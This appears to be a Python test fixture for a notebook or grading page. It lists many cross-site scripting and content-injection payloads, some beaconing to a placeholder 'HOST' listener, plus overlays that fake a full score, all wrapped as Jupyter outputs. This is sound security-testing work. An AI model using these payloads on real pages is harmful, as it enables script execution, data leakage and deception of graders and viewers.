"""What a hostile student may write, in Markdown or in an output, to act on whoever opens a page that shows it.

`HOST` stands for the address of a listener that must hear nothing; `ran()` is what no page may call.
"""

import json

SCRIPT = "window.ran = 1; document.title = 'ran'; new Image().src = 'HOST/ran'"
LIVE = {
    "script": f"<script>{SCRIPT}</script>",
    "script from elsewhere": '<script src="HOST/a.js"></script>',
    "script in capitals": f"<ScRiPt\n>{SCRIPT}</sCrIpT\n>",
    "out of the answer's box": f"</div></main></body></html><script>{SCRIPT}</script>",
    "event of a picture": f'<img src=x onerror="{SCRIPT}">',
    "event of details": f'<details open ontoggle="{SCRIPT}">x</details>',
    "event of a focused field": f'<input autofocus onfocus="{SCRIPT}">',
    "event of a video": f'<video><source onerror="{SCRIPT}"></video>',
    "event of an animation": "<style>@keyframes a{}</style>"
    f'<p style="animation:a 1s" onanimationstart="{SCRIPT}">x</p>',
    "event of the page": f'<body onload="{SCRIPT}">',
    "svg": f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
    "svg with foreign content": "<svg><foreignObject>"
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
    "svg that uses another": '<svg><use href="HOST/u.svg#x"/><image href="HOST/i.png"/></svg>',
    "math that hides markup": f'<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{SCRIPT}">',
    "noscript that hides markup": f'<noscript><p title="</noscript><img src=x onerror={json.dumps(SCRIPT)}>">',
    "comment that hides markup": f'<!--><img src=x onerror="{SCRIPT}">-->',
    "template": f"<template shadowrootmode=open><script>{SCRIPT}</script></template>",
    "frame": '<iframe src="HOST/frame"></iframe>',
    "frame with content": "<iframe srcdoc=\"<script>parent.ran = 1; new Image().src='HOST/srcdoc'</script>\"></iframe>",
    "frame with a script as address": f'<iframe src="javascript:parent.{SCRIPT}"></iframe>',
    "frame with data": "<iframe src=\"data:text/html,<script>new Image().src='HOST/data'</script>\"></iframe>",
    "object": '<object data="HOST/object"></object><embed src="HOST/embed">',
    "picture from elsewhere": "![x](HOST/markdown.png) <img src=HOST/img.png srcset='HOST/srcset.png 2x' alt=x>",
    "sound, film, poster": '<audio src="HOST/a.mp3" autoplay></audio>'
    '<video src="HOST/v.mp4" poster="HOST/p.png"></video>',
    "style": "<style>@import url(HOST/import.css); body { background: url(HOST/bg.png) }</style>",
    "style of an element": '<p style="background: url(HOST/style.png)">x</p><td background="HOST/td.png">',
    "link to a stylesheet": '<link rel=stylesheet href="HOST/link.css"><link rel=prefetch href="HOST/prefetch">',
    "refresh": '<meta http-equiv="refresh" content="0; url=HOST/refresh">',
    "base": '<base href="HOST/"><img src="relative.png" alt=x>',
    "mathematics": r"$\href{javascript:window.ran=1}{x}$ $$\require{html}\style{background:url(HOST/math.png)}{x}$$ "
    r"\begin{equation}</script><img src=x onerror='window.ran=1'>\end{equation}",
    "diagram": "```mermaid\ngraph TD; A[\"<img src=x onerror='window.ran=1'>\"]; click A 'javascript:ran=1'\n```",
    "fenced language": f'```"><img src=x onerror="{SCRIPT}">\nx\n```',
}
# These wait for a click, for Markdown or a server, for a careless cleaner, or only deceive.
SLY = {
    "script within broken tags": f"<scr<script>ipt>{SCRIPT}</scr</script>ipt>",
    "event of a picture, slashes for blanks": f'<img/src=x/onerror="{SCRIPT}">',
    "event of a marquee": f'<marquee onstart="{SCRIPT}">x</marquee>',
    "svg that animates a link": '<svg><a><animate attributeName="href" to="javascript:ran=1"/><text>x</text></a></svg>',
    "picture without a scheme": '<img src="//127.0.0.1:PORT/bare.png" alt=x>',
    "style that covers the page": '<div style="position:fixed;inset:0;background:red;z-index:9">100 of 100</div>',
    "refresh to a script": '<meta http-equiv="refresh" content="0; url=javascript:window.ran=1">',
    "form": '<form action="HOST/form" id=f><input name=x value=y><button>Go</button></form>',
    "links": "[a](javascript:window.ran=1) <a href='javascript:window.ran=1'>b</a> "
    "<a href='data:text/html,<script>1</script>'>c</a> <a href='&#106;avascript:window.ran=1'>d</a> "
    "<a href='java\nscript:window.ran=1'>e</a> <a href='file:///x'>f</a> <a href=HOST/ping ping=HOST/ping>g</a>",
    "reference links": "[a][1] ![b][2]\n\n[1]: javascript:window.ran=1\n[2]: HOST/reference.png",
    "page's own names": '<p id="food-speaker" class="result all" name="body">Right · 34 of 34 points</p>',
    "web component": '<x-a is="x" onclick="window.ran=1" contenteditable>x</x-a><portal src=HOST/portal></portal>',
}
MARKUP = LIVE | SLY
_HTML = "".join(MARKUP.values())
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>'
    '<image href="HOST/svg.png"/></svg>'
)
_WIDGET = {"version_major": 2, "version_minor": 0, "model_id": f'"></script><script>{SCRIPT}</script>'}
OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, "data": {"text/html": _HTML}},
    {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {"text/html": _HTML}},
    {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": _HTML}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": _SVG}},
    {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": SCRIPT}},
    {"output_type": "display_data", "metadata": {}, "data": {"application/vnd.jupyter.widget-view+json": _WIDGET}},
    {"output_type": "display_data", "metadata": {}, "data": {"text/latex": _HTML, "application/pdf": "x"}},
    {
        "output_type": "display_data",
        "metadata": {},
        "data": {"image/png": f'AA" onerror="{SCRIPT}', "text/plain": _HTML},
    },
    {
        "output_type": "display_data",
        "metadata": {"image/png": {"alt": '"><script>ran=1</script>'}},
        "data": {"image/png": "AA"},
    },
    {"output_type": "execute_result", "execution_count": None, "metadata": {}, "data": {"text/plain": _HTML}},
    {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{_HTML}"},
    {"output_type": "error", "ename": _HTML, "evalue": _HTML, "traceback": [f"\x1b[1;31m{_HTML}\x1b[0m"]},
]


def aimed(value, host):
    """An attack (a text, or the data of a cell) that calls a listener at `host`, such as http://127.0.0.1:8000."""
    text = json.dumps(value).replace("HOST", host).replace("PORT", host.rpartition(":")[2])
    return json.loads(text)
